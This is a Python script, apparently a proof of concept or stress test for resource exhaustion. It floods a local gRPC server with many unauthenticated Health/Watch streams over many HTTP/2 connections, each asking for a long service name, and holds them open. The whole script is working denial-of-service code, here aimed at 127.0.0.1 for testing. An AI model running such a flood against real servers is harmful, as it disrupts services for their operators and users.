#!/usr/bin/env python3
"""Open CONNS connections x STREAMS grpc.health.v1.Health/Watch streams (no token),
each asking for a service name of NAMELEN bytes; hold them HOLD seconds, then close.
usage: watchflood.py PORT CONNS STREAMS NAMELEN HOLD [path]"""
import socket, sys, time, struct, h2.connection, h2.config, h2.events
port, conns, streams, namelen, hold = map(int, sys.argv[1:6])
path = sys.argv[6] if len(sys.argv) > 6 else '/grpc.health.v1.Health/Watch'
def msg(name: bytes):
    # HealthCheckRequest{service=1:string}
    l = len(name); v = b''
    while True:
        b = l & 0x7f; l >>= 7
        v += bytes([b | (0x80 if l else 0)])
        if not l: break
    body = b'\x0a' + v + name
    return b'\x00' + struct.pack('>I', len(body)) + body
socks = []
t0 = time.time()
for c in range(conns):
    s = socket.create_connection(('127.0.0.1', port))
    cfg = h2.config.H2Configuration(client_side=True, header_encoding='utf-8')
    h = h2.connection.H2Connection(cfg)
    h.initiate_connection()
    h.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 2**31-1})
    h.increment_flow_control_window(2**30)
    s.sendall(h.data_to_send())
    # read server settings to learn max concurrent streams
    s.settimeout(2)
    data = s.recv(65535); h.receive_data(data); s.sendall(h.data_to_send())
    body = msg((b'x' * namelen) if namelen else b'')
    opened = 0
    for i in range(streams):
        sid = h.get_next_available_stream_id()
        try:
            h.send_headers(sid, [(':method','POST'),(':scheme','http'),(':path',path),(':authority','x'),('content-type','application/grpc'),('te','trailers')])
            # send body respecting flow control
            off = 0
            while off < len(body):
                w = min(h.local_flow_control_window(sid), h.max_outbound_frame_size, len(body)-off)
                if w <= 0:
                    s.sendall(h.data_to_send()); d = s.recv(65535); h.receive_data(d); continue
                h.send_data(sid, body[off:off+w]); off += w
            h.end_stream(sid)
            opened += 1
        except Exception as e:
            print('stream open error', type(e).__name__, e); break
        if i % 16 == 0: s.sendall(h.data_to_send())
    s.sendall(h.data_to_send())
    socks.append((s, h))
print(f'opened {conns} conns, {opened} streams last conn, in {time.time()-t0:.2f}s', flush=True)
# drain responses, count reset/ended streams
ended = resets = 0
end = time.time() + hold
for s, h in socks: s.settimeout(0.05)
while time.time() < end:
    for s, h in socks:
        try:
            d = s.recv(1<<20)
            if not d: continue
            for ev in h.receive_data(d):
                if isinstance(ev, h2.events.StreamReset): resets += 1
                if isinstance(ev, h2.events.StreamEnded): ended += 1
            s.sendall(h.data_to_send())
        except socket.timeout: pass
        except Exception as e: pass
print(f'during hold: streams ended={ended} reset={resets}', flush=True)
for s, h in socks: s.close()
